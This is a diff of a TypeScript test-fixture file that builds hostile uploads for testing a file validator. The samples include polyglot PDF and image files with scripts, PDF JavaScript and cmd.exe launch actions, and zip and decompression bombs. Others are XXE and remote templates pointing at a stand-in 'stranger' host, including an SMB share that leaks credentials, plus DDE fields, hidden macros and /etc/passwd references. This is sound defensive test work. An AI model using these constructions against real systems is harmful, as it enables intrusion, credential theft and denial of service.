@@ -6,33 +6,42 @@ import {
   documentXml,
   docx,
   docxEntries,
+  docxWithTemplate,
+  macroMainType,
+  macroRelation,
   odt,
   odtContent,
   odtEntries,
   paragraph,
   relationsXml,
-  settingsParts,
 } from "./docx.ts";
 import {
   docxCv,
   gifPhoto,
   type HostileFile,
+  harmless,
   html,
+  inCategory,
   jpegPhoto,
+  laughs,
   mark,
   movVideo,
   mp4Video,
   odtCv,
+  openScript,
   pdfCv,
   pdfScript,
   php,
   pngPhoto,
+  refused,
   script,
+  scriptAction,
+  smallArchive,
   stranger,
   webmVideo,
   webpPhoto,
 } from "./hostile.ts";
-import { box, element, film, fullBox, webm, webmHead } from "./media.ts";
+import { box, element, fileType, film, fullBox, webm, webmHead } from "./media.ts";
 import {
   attachment,
   cvObjects,
@@ -40,6 +49,7 @@ import {
   lockedPdf,
   openStream,
   pageContent,
+  pageLink,
   someLines,
   stream,
   updatedPdf,
@@ -61,11 +71,17 @@ import {
   tiff,
   webpChunk,
 } from "./pictures.ts";
-import { linuxProgram, macProgram, oleContainer, richText, windowsProgram, windowsShortcut } from "./programs.ts";
+import {
+  linuxProgram,
+  macProgram,
+  oleContainer,
+  packedProgram,
+  richText,
+  windowsProgram,
+  windowsShortcut,
+} from "./programs.ts";
 import { end64Record, endRecord, overlappingZip, zerosEntry, zip, zipHalves } from "./zip.ts";
 
-const refused = "refused";
-const harmless = "harmless";
 /** Writes every letter of a PDF name as a hexadecimal escape. */
 const escapedName = (name: string) =>
   `/${[...name].map((letter) => `#${letter.charCodeAt(0).toString(16).toUpperCase()}`).join("")}`;
@@ -104,11 +120,10 @@ function predicted(bytes: Uint8Array): Uint8Array {
   return join(...rows);
 }
 
-const polyglots: HostileFile[] = [
+const polyglots = inCategory("polyglot", [
   {
     ...pdfCv,
     name: "PDF nine hundred bytes into a page",
-    category: "polyglot",
     bytes: () => join(`\n<html><body><script>${script}</script><!--${" ".repeat(820)}`, cvPdf()),
     expected: refused,
     why: "The head of a PDF may stand late for readers; a browser sees the page first.",
@@ -116,7 +131,6 @@ const polyglots: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with a page of HTML behind its end",
-    category: "polyglot",
     bytes: () => join(cvPdf(), html),
     expected: harmless,
     why: "Careless programs append such pages to good files too; served as a PDF it stays one.",
@@ -124,7 +138,6 @@ const polyglots: HostileFile[] = [
   {
     ...gifPhoto,
     name: "GIF with a script in its comment",
-    category: "polyglot",
     bytes: () => gif({ version: "87a", before: gifComment(`*/=1;${script}/*<script>${script}</script>`) }),
     expected: harmless,
     why: "A whole GIF; its comment runs where the file is taken for something else.",
@@ -133,7 +146,6 @@ const polyglots: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "JPEG with a ZIP inside its comment",
-    category: "polyglot",
     kind: "offerImage",
     bytes: () =>
       jpeg({ segments: jpegSegment(0xfe, zip([{ name: "META-INF/MANIFEST.MF", content: mark, packing: 0 }])) }),
@@ -144,7 +156,6 @@ const polyglots: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF that holds a ZIP and ends in its directory",
-    category: "polyglot",
     bytes: () => {
       const entries = [{ name: "index.html", content: html }];
       const before = cvPdf({ objects: { 10: openStream(zipHalves(entries).body) } });
@@ -157,7 +168,6 @@ const polyglots: HostileFile[] = [
   {
     ...pngPhoto,
     name: "PNG with a page in its palette",
-    category: "polyglot",
     bytes: () => {
       const palette = `<script>${script}</script>${php}`;
       const padded = palette.padEnd(Math.ceil(palette.length / 3) * 3);
@@ -171,19 +181,17 @@ const polyglots: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "JPEG that begins as a page",
-    category: "polyglot",
     bytes: () => jpeg({ segments: jpegSegment(0xe0, `<!--JFIF--><html><script>${script}</script></html>`) }),
     expected: harmless,
     why: "The page stands in the first segment, within what browsers look at to guess a type.",
     absent: ["<script", mark],
   },
-];
+]);
 
-const metadata: HostileFile[] = [
+const metadata = inCategory("picture metadata", [
   {
     ...webpPhoto,
     name: "WebP with EXIF position and XMP",
-    category: "picture metadata",
     bytes: () =>
       extendedWebp(
         { width: 64, height: 64 },
@@ -199,7 +207,6 @@ const metadata: HostileFile[] = [
   {
     ...pngPhoto,
     name: "PNG with EXIF",
-    category: "picture metadata",
     kind: "logo",
     bytes: () => png({ before: pngChunk("eXIf", exif()), after: pngChunk("tEXt", `Author\0${mark}`) }),
     expected: harmless,
@@ -209,7 +216,6 @@ const metadata: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "JPEG with a preview and IPTC",
-    category: "picture metadata",
     bytes: () => {
       const preview = join("JFXX\0\x10", jpeg({ segments: jpegSegment(0xfe, "uncropped") }));
       const iptc = join("Photoshop 3.0\x008BIM\x04\x04\0\0", big.u32(16), "\x1c\x02\x5a", big.u16(11), "Croix-Rouss");
@@ -219,20 +225,19 @@ const metadata: HostileFile[] = [
     why: "The preview shows the picture before it was cut, IPTC names the district.",
     absent: ["JFXX", "uncropped", "8BIM", "Croix-Rouss", camera],
   },
-];
+]);
 
-const scripts: HostileFile[] = [
+const scripts = inCategory("pdf script", [
   {
     ...pdfCv,
     name: "PDF script after a harmless link",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         page: "/Annots[10 0 R]",
         objects: {
-          10: "<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 11 0 R>>",
+          10: pageLink("11 0 R"),
           11: "<</S/URI/URI(https://example.org/)/Next[12 0 R]>>",
-          12: `<</S/JavaScript/JS(${pdfScript})>>`,
+          12: scriptAction,
         },
         pack: { numbers: [10, 12] },
       }),
@@ -242,7 +247,6 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script in a names tree of two levels, escaped and packed",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         catalogue: "/Names 10 0 R",
@@ -263,11 +267,10 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script added by an update",
-    category: "pdf script",
     bytes: () =>
       updatedPdf(cvPdf(), {
         1: "<</Type/Catalog/Pages 2 0 R/OpenAction 10 0 R>>",
-        10: `<</Type/Action/S/JavaScript/JS<${Buffer.from(`app.alert("${mark}")`).toString("hex")}>>>`,
+        10: `<</Type/Action/S/JavaScript/JS<${Buffer.from(openScript).toString("hex")}>>>`,
       }),
     expected: refused,
     why: "The catalogue of the first version is good; the one that counts comes last.",
@@ -275,11 +278,10 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script in an object stream of two packings",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         catalogue: "/OpenAction 10 0 R",
-        objects: { 10: `<</S/JavaScript/JS(${pdfScript})>>` },
+        objects: { 10: scriptAction },
         pack: {
           dictionary: "/Filter[/A85/Fl]",
           encode: (bytes) => ascii85(deflateSync(bytes)),
@@ -291,7 +293,6 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script with comments between its words",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         catalogue: `/OpenAction%a\n<<%b\n/S%/URI\r${escapedName("JavaScript")}%c\n${escapedName("JS")}%${"d".repeat(5000)}\n(${pdfScript})>>`,
@@ -302,13 +303,12 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script when it is closed",
-    category: "pdf script",
     kind: "kbis",
     fileName: "kbis.pdf",
     bytes: () =>
       cvPdf({
         catalogue: "/AA 10 0 R",
-        objects: { 10: "<</WC 11 0 R>>", 11: "<</S/JavaScript/JS 12 0 R>>", 12: stream(`app.alert("${mark}")`) },
+        objects: { 10: "<</WC 11 0 R>>", 11: "<</S/JavaScript/JS 12 0 R>>", 12: stream(openScript) },
         pack: {},
       }),
     expected: refused,
@@ -317,11 +317,10 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script in a stream whose packing stands elsewhere",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         catalogue: "/OpenAction 10 0 R",
-        objects: { 10: `<</S/JavaScript/JS(${pdfScript})>>`, 20: "/FlateDecode" },
+        objects: { 10: scriptAction, 20: "/FlateDecode" },
         pack: { numbers: [1, 10], dictionary: "/Filter 20 0 R" },
       }),
     expected: refused,
@@ -330,7 +329,6 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF script in a drawing that plays",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         page: "/Annots[10 0 R]",
@@ -345,29 +343,27 @@ const scripts: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with a link that is a script",
-    category: "pdf script",
     bytes: () =>
       cvPdf({
         page: "/Annots[10 0 R]",
         objects: {
-          10: `<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI(javascript:alert\\('${mark}'\\))>>>>`,
+          10: pageLink(`<</S/URI/URI(javascript:alert\\('${mark}'\\))>>`),
         },
       }),
     expected: harmless,
     why: "Readers do not run it; a viewer in our page must not make a link of it.",
   },
-];
+]);
 
-const actions: HostileFile[] = [
+const actions = inCategory("pdf action", [
   {
     ...pdfCv,
     name: "PDF that launches a program with words of its own",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         page: "/Annots[10 0 R]",
         objects: {
-          10: "<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A 11 0 R>>",
+          10: pageLink("11 0 R"),
           11: `<</S/L#61unch/Win<</F(cmd.exe)/P(/k echo ${mark})>>>>`,
         },
         pack: {},
@@ -378,7 +374,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with a button that sends it away",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         catalogue: "/AcroForm<</Fields[10 0 R]>>",
@@ -395,7 +390,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF that takes data by a chain of actions",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         catalogue: "/OpenAction 10 0 R",
@@ -410,7 +404,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF that goes into a file on a share",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         catalogue: "/OpenAction 10 0 R",
@@ -424,7 +417,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with a three-dimensional model that starts by itself",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         page: "/Annots[10 0 R]",
@@ -440,7 +432,6 @@ const actions: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with an XFA form in parts",
-    category: "pdf action",
     bytes: () =>
       cvPdf({
         catalogue: "/AcroForm 10 0 R/NeedsRendering true",
@@ -457,13 +448,12 @@ const actions: HostileFile[] = [
     expected: refused,
     why: "The form is cut into streams and its name is packed.",
   },
-];
+]);
 
-const attachments: HostileFile[] = [
+const attachments = inCategory("pdf attachment", [
   {
     ...pdfCv,
     name: "PDF with a program attached as XML",
-    category: "pdf attachment",
     bytes: () => cvPdf(attachment("europass.xml", windowsProgram(), "text/xml")),
     expected: refused,
     why: "Name and type are those of a Europass CV, the content is a program.",
@@ -471,7 +461,6 @@ const attachments: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with a ZIP pinned to its page",
-    category: "pdf attachment",
     bytes: () =>
       cvPdf({
         page: "/Annots[12 0 R]",
@@ -485,21 +474,19 @@ const attachments: HostileFile[] = [
     expected: refused,
     why: "An attachment of a page, not of the document, whose stream does not say what it is.",
   },
-];
+]);
 
-const structures: HostileFile[] = [
+const structures = inCategory("pdf structure", [
   {
     ...pdfCv,
     name: "PDF under an empty password",
-    category: "pdf structure",
-    bytes: () => lockedPdf("", `app.alert("${mark}")`),
+    bytes: () => lockedPdf("", openScript),
     expected: refused,
     why: "Opens by itself everywhere, and its script is readable to readers only.",
   },
   {
     ...pdfCv,
     name: "PDF whose pages lead in a circle",
-    category: "pdf structure",
     bytes: () =>
       cvPdf({
         objects: {
@@ -514,7 +501,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF whose versions lead in a circle",
-    category: "pdf structure",
     bytes: () => {
       const whole = Buffer.from(cvPdf({ trailer: "/Prev 0000000000" })).toString("latin1");
       const place = /startxref\n(\d+)/.exec(whole)![1]!;
@@ -526,7 +512,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF nested two million deep",
-    category: "pdf structure",
     bytes: () =>
       cvPdf({ objects: { 10: `${"[".repeat(2_000_000)}${"]".repeat(2_000_000)}` }, page: "/Metadata 10 0 R" }),
     expected: harmless,
@@ -535,7 +520,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF of 20,000 pages of the same content",
-    category: "pdf structure",
     kind: "offerFile",
     fileName: "offre.pdf",
     bytes: () => {
@@ -555,7 +539,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF whose page lies in sixteen streams of 64 MB",
-    category: "pdf structure",
     bytes: () => {
       const bytes = deflateSync(zlibZeros(64 * megabyte), { level: 9 });
       const numbers = Array.from({ length: 16 }, (_, i) => 30 + i);
@@ -570,7 +553,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF with a picture of 60,000 by 60,000",
-    category: "pdf structure",
     bytes: () =>
       cvPdf({
         objects: {
@@ -589,7 +571,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF of a head and an end",
-    category: "pdf structure",
     bytes: () => latin1("%PDF-1.7\n%\xe2\xe3\xcf\xd3\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"),
     expected: refused,
     why: "Begins and ends as it should, with nothing between.",
@@ -597,7 +578,6 @@ const structures: HostileFile[] = [
   {
     ...pdfCv,
     name: "PDF without its last third",
-    category: "pdf structure",
     bytes: () => {
       const lines = Array.from({ length: 300 }, (_, i) => `${someLines[0]} ${(i * 7919) % 10007}`);
       const whole = cvPdf({ objects: { 4: openStream(pageContent(lines)) }, pack: { numbers: [1, 2, 3] } });
@@ -606,13 +586,12 @@ const structures: HostileFile[] = [
     expected: refused,
     why: "The content is there, the pages and the catalogue are not.",
   },
-];
+]);
 
-const sizes: HostileFile[] = [
+const sizes = inCategory("picture size", [
   {
     ...pngPhoto,
     name: "interlaced PNG of two million by two million",
-    category: "picture size",
     bytes: () => png({ width: 2_000_000, height: 2_000_000, depth: 1, interlaced: true, packed: zlibZeros(64) }),
     expected: refused,
     why: "The product of its sides does not fit into 32 bits.",
@@ -620,7 +599,6 @@ const sizes: HostileFile[] = [
   {
     ...pngPhoto,
     name: "small PNG whose rows unpack to 1 GB",
-    category: "picture size",
     bytes: () => png({ width: 64, height: 64, packed: zlibZeros(1024 * megabyte) }),
     expected: harmless,
     why: "What stands behind the last row must not be unpacked.",
@@ -628,7 +606,6 @@ const sizes: HostileFile[] = [
   {
     ...pngPhoto,
     name: "PNG with a colour profile and a text of 1 GB",
-    category: "picture size",
     bytes: () =>
       png({
         before: join(
@@ -643,7 +620,6 @@ const sizes: HostileFile[] = [
   {
     ...pngPhoto,
     name: "animated PNG of 4,000 frames",
-    category: "picture size",
     kind: "offerImage",
     bytes: () =>
       animatedPng({
@@ -659,7 +635,6 @@ const sizes: HostileFile[] = [
   {
     ...jpegPhoto,
     name: "progressive JPEG of 65,000 by 64,000 without a scan",
-    category: "picture size",
     bytes: () => jpeg({ said: { width: 65_000, height: 64_000 }, frame: 0xc2, bare: true, segments: exifSegment() }),
     expected: refused,
     why: "A progressive decoder keeps all coefficients of the picture in memory.",
@@ -667,7 +642,6 @@ const sizes: HostileFile[] = [
   {
     ...gifPhoto,
     name: "GIF of a small screen and a huge frame",
-    category: "picture size",
     bytes: () => gif({ width: 8, height: 8, frame: { width: 65_535, height: 65_535 }, indices: 100 }),
     expected: harmless,
     why: "The screen says 64 pixels, its frame four billion; who accepts it may keep the screen alone.",
@@ -675,7 +649,6 @@ const sizes: HostileFile[] = [
   {
     ...webpPhoto,
     name: "animated WebP with a canvas of 60,000 by 60,000",
-    category: "picture size",
     bytes: () => {
       const place = join(new Uint8Array(6), little.u24(7), little.u24(7), little.u24(100), "\0");
       const frame = webpChunk("ANMF", join(place, losslessChunk(8, 8)));
@@ -689,7 +662,6 @@ const sizes: HostileFile[] = [
     declaredType: "image/avif",
     kind: "image",
     name: "AVIF of a hundred thousand by a hundred thousand",
-    category: "picture size",
     bytes: () => heif("avif", 100_000, 100_000),
     expected: refused,
     why: "Ten billion pixels, said before any of them is there.",
@@ -699,18 +671,16 @@ const sizes: HostileFile[] = [
     declaredType: "image/tiff",
     kind: "logo",
     name: "TIFF of one strip of 2.5 GB",
-    category: "picture size",
     bytes: () => tiff(50_000, 50_000, zlibZeros(2500 * 1_000_000)),
     expected: refused,
     why: "Whole and true, in two and a half megabytes.",
   },
-];
+]);
 
-const svgs: HostileFile[] = [
+const svgs = inCategory("svg", [
   {
     ...jpegPhoto,
     name: "SVG in UTF-16 named JPEG",
-    category: "svg",
     bytes: () =>
       utf16(
         `<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg" onload='${script}' width="64" height="64"><image href="file:///etc/passwd" width="64" height="64"/></svg>`,
@@ -721,7 +691,6 @@ const svgs: HostileFile[] = [
   {
     ...pngPhoto,
     name: "compressed SVG named PNG",
-    category: "svg",
     kind: "offerImage",
     bytes: () =>
       new Uint8Array(
@@ -737,7 +706,6 @@ const svgs: HostileFile[] = [
     declaredType: "image/png",
     kind: "logo",
     name: "drawing commands named PNG",
-    category: "svg",
     bytes: () =>
       latin1(
         `push graphic-context\nviewbox 0 0 64 64\nfill 'url(https://${stranger}/a.png"|echo "${mark})'\npop graphic-context\n`,
@@ -745,13 +713,12 @@ const svgs: HostileFile[] = [
     expected: refused,
     why: "One drawing program takes such texts by their content and runs what they say.",
   },
-];
+]);
 
-const archives: HostileFile[] = [
+const archives = inCategory("archive", [
   {
     ...odtCv,
     name: "ODT with a text of 1 GB",
-    category: "archive",
     bytes: () => odt({ parts: [zerosEntry("content.xml", 1024 * megabyte)] }),
     expected: refused,
     why: "The very part that every reader unpacks.",
@@ -759,7 +726,6 @@ const archives: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with ZIPs in ZIPs in ZIPs",
-    category: "archive",
     bytes: () => {
       let inner: Uint8Array = zip([zerosEntry("0", 256 * megabyte)]);
       for (let level = 0; level < 4; level++) {
@@ -774,7 +740,6 @@ const archives: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT of 66,000 folders",
-    category: "archive",
     bytes: () => {
       const parts = Array.from({ length: 66_000 }, (_, i) => ({ name: `P/${i.toString(36)}/`, packing: 0 }));
       return odt({ parts });
@@ -785,7 +750,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX whose parts quote one another",
-    category: "archive",
     bytes: () =>
       overlappingZip(
         docxEntries(),
@@ -798,7 +762,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX whose two headers differ",
-    category: "archive",
     bytes: () => {
       const bomb = zerosEntry("word/document.xml", 300 * megabyte);
       const { packed, size, crc } = bomb;
@@ -812,11 +775,10 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with two directories, one for large archives",
-    category: "archive",
     bytes: () => {
       const honest = docxEntries();
       const other = docxEntries({
-        mainType: "application/vnd.ms-word.document.macroEnabled.main+xml",
+        mainType: macroMainType,
         parts: [{ name: "word/vbaProject.bin", content: mark }],
       });
       const first = zipHalves(honest);
@@ -836,7 +798,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a second end in its comment",
-    category: "archive",
     bytes: () => {
       const honest = docxEntries();
       const { body, directory } = zipHalves(docxEntries({ parts: [{ name: "word/vbaProject.bin", content: mark }] }));
@@ -853,7 +814,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with parts at Windows paths",
-    category: "archive",
     bytes: () =>
       docx({
         parts: [
@@ -867,7 +827,6 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX under a modern password",
-    category: "archive",
     bytes: () => {
       const aes = join(little.u16(0x9901), little.u16(7), little.u16(2), "AE\x03", little.u16(8));
       const locked = { packed: new Uint8Array(300).fill(0x5b), packing: 99, flags: 1, size: 900, crc: 0, extra: aes };
@@ -879,7 +838,6 @@ const archives: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with a symbolic link for a text",
-    category: "archive",
     bytes: () =>
       odt({ parts: [{ name: "styles.xml", content: "../../../../etc/passwd", packing: 0, mode: 0o120755 }] }),
     expected: refused,
@@ -888,10 +846,8 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with two lists of its types in other letters",
-    category: "archive",
     bytes: () => {
-      const main = "application/vnd.ms-word.document.macroEnabled.main+xml";
-      return zip([{ name: "[content_types].XML", content: contentTypesXml(main) }, ...docxEntries()]);
+      return zip([{ name: "[content_types].XML", content: contentTypesXml(macroMainType) }, ...docxEntries()]);
     },
     expected: refused,
     why: "Word takes names of parts without regard to capitals: which list counts is a matter of luck.",
@@ -899,18 +855,16 @@ const archives: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX behind a program",
-    category: "archive",
     bytes: () => docx({}, { before: windowsProgram() }),
     expected: refused,
     why: "Archives are read from their end: before it, anything may stand.",
   },
-];
+]);
 
-const documents: HostileFile[] = [
+const documents = inCategory("document", [
   {
     ...docxCv,
     name: "DOCX with an entity in UTF-16",
-    category: "document",
     bytes: () => {
       const doctype = `<!DOCTYPE w:document [<!ENTITY % a SYSTEM "http://${stranger}/a.dtd"> %a;]>`;
       const xml = documentXml(paragraph("Zoe Martin"), doctype).replace("UTF-8", "UTF-16");
@@ -922,10 +876,8 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX of a billion laughs in its properties",
-    category: "document",
     bytes: () => {
-      const levels = Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(8)}">`);
-      const xml = `<?xml version="1.0"?>\n<!-- -->\n<!DOCTYPE p [<!ENTITY l0 "laugh">${levels.join("")}]><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"><cp:keywords>&l12;</cp:keywords></cp:coreProperties>`;
+      const xml = `<?xml version="1.0"?>\n<!-- -->\n<!DOCTYPE p [${laughs(12, 8)}]><cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"><cp:keywords>&l12;</cp:keywords></cp:coreProperties>`;
       return docx({ parts: [{ name: "docProps/core.xml", content: xml }] });
     },
     expected: refused,
@@ -934,7 +886,6 @@ const documents: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with an entity for its styles",
-    category: "document",
     bytes: () =>
       odt({
         parts: [
@@ -951,11 +902,10 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with macros under another name",
-    category: "document",
     bytes: () =>
       docx({
         types: '<Override PartName="/word/theme.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
-        relations: [{ type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "theme.bin" }],
+        relations: [{ type: macroRelation, target: "theme.bin" }],
         parts: [
           { name: "word/theme.bin", content: oleContainer([{ name: "dir", content: latin1(`Sub AutoOpen ${mark}`) }]) },
         ],
@@ -966,12 +916,11 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOTM named DOCX",
-    category: "document",
     bytes: () =>
       docx({
         mainType: "application/vnd.ms-word.template.macroEnabledTemplate.main+xml",
         types: '<Default Extension="vba" ContentType="application/vnd.ms-office.vbaProject"/>',
-        relations: [{ type: "http://schemas.microsoft.com/office/2006/relationships/vbaProject", target: "m/a.vba" }],
+        relations: [{ type: macroRelation, target: "m/a.vba" }],
         parts: [{ name: "word/m/a.vba", content: oleContainer([{ name: "VBA", content: latin1(mark) }]) }],
       }),
     expected: refused,
@@ -980,15 +929,11 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a template on a share",
-    category: "document",
     bytes: () =>
-      docx(
-        settingsParts(
-          '<w:attachedTemplate r:id="rId1"/>',
-          relationsXml([
-            { type: "attachedTemplate", target: `file:///\\\\${stranger}\\share\\a.dotm`, external: true },
-          ]).replaceAll('"', "'"),
-        ),
+      docxWithTemplate(
+        relationsXml([
+          { type: "attachedTemplate", target: `file:///\\\\${stranger}\\share\\a.dotm`, external: true },
+        ]).replaceAll('"', "'"),
       ),
     expected: refused,
     why: "Written as a file, but on a stranger's machine: Windows offers the reader's password to it.",
@@ -996,14 +941,10 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a template in UTF-16 and another space of names",
-    category: "document",
     bytes: () =>
-      docx(
-        settingsParts(
-          '<w:attachedTemplate r:id="rId1"/>',
-          utf16(
-            `<?xml version="1.0" encoding="UTF-16"?><p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="https://${stranger}/a.dotm" TargetMode="External"/></p:Relationships>`,
-          ),
+      docxWithTemplate(
+        utf16(
+          `<?xml version="1.0" encoding="UTF-16"?><p:Relationships xmlns:p="http://schemas.openxmlformats.org/package/2006/relationships"><p:Relationship Id="rId1" Type="http://purl.oclc.org/ooxml/officeDocument/relationships/attachedTemplate" Target="https://${stranger}/a.dotm" TargetMode="External"/></p:Relationships>`,
         ),
       ),
     expected: refused,
@@ -1012,7 +953,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a document from a stranger",
-    category: "document",
     bytes: () =>
       docx({
         body: `${paragraph("Zoe Martin")}<w:subDoc r:id="rId1"/>`,
@@ -1024,7 +964,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with an OLE object named as a picture",
-    category: "document",
     bytes: () =>
       docx({
         body: `<w:p><w:r><w:object><o:OLEObject Type="Embed" ProgID="Package" ShapeID="a" DrawAspect="Content" ObjectID="_1" r:id="rId1"/></w:object></w:r></w:p>`,
@@ -1033,7 +972,7 @@ const documents: HostileFile[] = [
         parts: [
           {
             name: "word/media/image7.emf",
-            content: oleContainer([{ name: "\x01Ole10Native", content: join(little.u32(1024), windowsProgram()) }]),
+            content: packedProgram(),
           },
         ],
       }),
@@ -1043,7 +982,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with an object linked from a stranger",
-    category: "document",
     bytes: () =>
       docx({
         body: `<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="htmlfile" ShapeID="a" DrawAspect="Content" ObjectID="_1" r:id="rId1" UpdateMode="Always"/></w:object></w:r></w:p>`,
@@ -1061,7 +999,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a control",
-    category: "document",
     bytes: () =>
       docx({
         body: '<w:p><w:r><w:object><w:control r:id="rId1" w:name="a" w:shapeid="a"/></w:object></w:r></w:p>',
@@ -1080,7 +1017,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with rich text for a part",
-    category: "document",
     bytes: () =>
       docx({
         types: '<Default Extension="dat" ContentType="application/rtf"/>',
@@ -1094,7 +1030,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a DDE field in pieces",
-    category: "document",
     bytes: () => {
       const run = (content: string) => `<w:r>${content}</w:r>`;
       const pieces = ["D", "DE", "AU", "TO c:\\\\windows\\\\system32\\\\cmd.exe", ` "/k echo ${mark}"`];
@@ -1109,7 +1044,6 @@ const documents: HostileFile[] = [
   {
     ...docxCv,
     name: "DOCX with a DDE field in its header",
-    category: "document",
     bytes: () =>
       docx({
         types:
@@ -1131,7 +1065,6 @@ const documents: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with a macro in Python",
-    category: "document",
     bytes: () =>
       odt({
         manifest: ["Scripts/python/a.py application/octet-stream"],
@@ -1143,7 +1076,6 @@ const documents: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with a part of itself from a stranger",
-    category: "document",
     bytes: () =>
       odt({
         body: `<text:p>Zoe Martin</text:p><text:section text:name="a"><text:section-source xlink:href="http://${stranger}/a.odt" xlink:type="simple"/></text:section>`,
@@ -1154,14 +1086,13 @@ const documents: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with a program as an object",
-    category: "document",
     bytes: () =>
       odt({
         body: '<text:p><draw:frame draw:name="a"><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
         parts: [
           {
             name: "Object 1",
-            content: oleContainer([{ name: "\x01Ole10Native", content: join(little.u32(1024), windowsProgram()) }]),
+            content: packedProgram(),
           },
         ],
       }),
@@ -1171,7 +1102,6 @@ const documents: HostileFile[] = [
   {
     ...odtCv,
     name: "ODT with a link that is a script",
-    category: "document",
     bytes: () =>
       odt({
         parts: [
@@ -1187,13 +1117,12 @@ const documents: HostileFile[] = [
     why: "The page that shows the document must neither make a link of it nor a picture.",
     absent: ["JaVaScRiPt:alert", "javascript:alert", "<img src=x"],
   },
-];
+]);
 
-const wrongTypes: HostileFile[] = [
+const wrongTypes = inCategory("wrong type", [
   {
     ...docxCv,
     name: "locked document of Word in its old container",
-    category: "wrong type",
     bytes: () =>
       oleContainer([
         { name: "EncryptionInfo", content: join(little.u16(4), little.u16(4), little.u32(0x40), "<encryption/>") },
@@ -1205,7 +1134,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...pdfCv,
     name: "installer named PDF",
-    category: "wrong type",
     bytes: () => oleContainer([{ name: "\u4840\u3f7f\u4164\u422f\u4836", content: new Uint8Array(600) }]),
     expected: refused,
     why: "Installers of Windows lie in the same container as old documents.",
@@ -1213,7 +1141,6 @@ const wrongTypes: HostileFile[] = [
   {
     ...odtCv,
     name: "rich text named ODT",
-    category: "wrong type",
     bytes: () => join("\n", richText(linuxProgram())),
     expected: refused,
